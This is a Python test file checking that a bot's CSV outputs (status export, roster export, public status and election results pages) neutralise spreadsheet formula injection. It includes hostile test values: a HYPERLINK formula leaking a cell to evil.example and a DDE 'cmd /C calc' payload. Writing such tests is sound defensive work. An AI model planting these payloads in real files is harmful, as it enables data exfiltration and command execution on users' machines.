"""Every CSV the bot writes keeps a spreadsheet from running a cell (issue 20, part 4).

An ALS named `=HYPERLINK(…)` and people named `@SUM(…)` / `-2+3` in the roster: the public
/status.csv, the published results CSV, `status --format csv` and `roster export --format csv` all
write those cells with the apostrophe that marks them as text; importing the exported CSV gives
back exactly the names that went in.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from tests.cli_helpers import run_cli
from tests.conftest import EXAMPLE_ROSTER
from tests.e2e.bot_process import BotProcess

EVIL_ALS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_PERSON = "-2+3 Núñez"
EVIL_TITLE = "=1+1 vote"
EVIL_CHOICE = "+Evil"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_roster(workdir: Path) -> Path:
    """The example roster with formula-like names, written by Python's csv (no apostrophes)."""
    rows = list(csv.DictReader(io.StringIO(EXAMPLE_ROSTER.read_text("utf-8"))))
    renamed = {"maria.perez@example.org": EVIL_PERSON, "joaquin.nunez@example.org": MINUS_PERSON}
    for row in rows:
        if row["als_id"] == "ALS-AR-01":
            row["als_name"] = EVIL_ALS
        row["name"] = renamed.get(row["email"], row["name"])
    path = workdir / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)


def imported(workdir: Path) -> Path:
    workdir.mkdir(exist_ok=True)
    done = run_cli(workdir, "roster", "import", str(hostile_roster(workdir)))
    assert done.returncode == 0, done.stdout + done.stderr
    return workdir


def test_cli_csv_neutralises_and_export_import_round_trips(tmp_path: Path) -> None:
    first = imported(tmp_path / "first")
    status = run_cli(first, "status", "--format", "csv")
    assert status.returncode == 0, status.stderr
    rows = cells(status.stdout)
    assert_no_formula(rows)
    assert any(cell == "'" + EVIL_ALS for row in rows for cell in row)

    exported = run_cli(first, "roster", "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = cells(exported.stdout)
    assert_no_formula(rows)
    flat = [cell for row in rows for cell in row]
    assert "'" + EVIL_ALS in flat and "'" + EVIL_PERSON in flat and "'" + MINUS_PERSON in flat

    second = tmp_path / "second"
    second.mkdir()
    (second / "export.csv").write_text(exported.stdout, "utf-8")
    done = run_cli(second, "roster", "import", str(second / "export.csv"))
    assert done.returncode == 0, done.stdout + done.stderr
    before = json.loads(run_cli(first, "roster", "export", "--format", "json").stdout)
    after = json.loads(run_cli(second, "roster", "export", "--format", "json").stdout)
    assert after == before
    names = {p["name"] for als in after for p in als["people"]}
    assert {EVIL_PERSON, MINUS_PERSON} <= names
    assert EVIL_ALS in {als["als_name"] for als in after}


def test_public_csv_pages_neutralise(tmp_path: Path) -> None:
    workdir = imported(tmp_path)
    ballots = workdir / "ballots.csv"
    ballots.write_text(
        f"als_id,choice\nALS-BR-01,{EVIL_CHOICE}\nALS-HT-01,{EVIL_CHOICE}\nALS-JM-01,B\n"
        "ALS-AR-01,abstain\n",
        "utf-8",
    )
    done = run_cli(
        workdir,
        "election",
        "tally",
        str(ballots),
        "--publish",
        EVIL_TITLE,
        "--candidates",
        f"{EVIL_CHOICE},B",
    )
    assert done.returncode == 0, done.stdout + done.stderr
    bot = BotProcess(workdir).start()
    try:
        status, body, _ = bot.get("/status.csv")
        assert status == 200
        rows = cells(body)
        assert_no_formula(rows)
        assert ["ALS-AR-01", "'" + EVIL_ALS] in [row[:2] for row in rows]
        status, body, _ = bot.get("/election/results.csv")
        assert status == 200
        rows = cells(body)
        assert_no_formula(rows)
        voted = [row for row in rows[1:] if row]
        assert len(voted) == 4 and all(row[0] == "'" + EVIL_TITLE for row in voted)
        assert "'" + EVIL_CHOICE in {cell for row in voted for cell in row}
    finally:
        bot.stop()
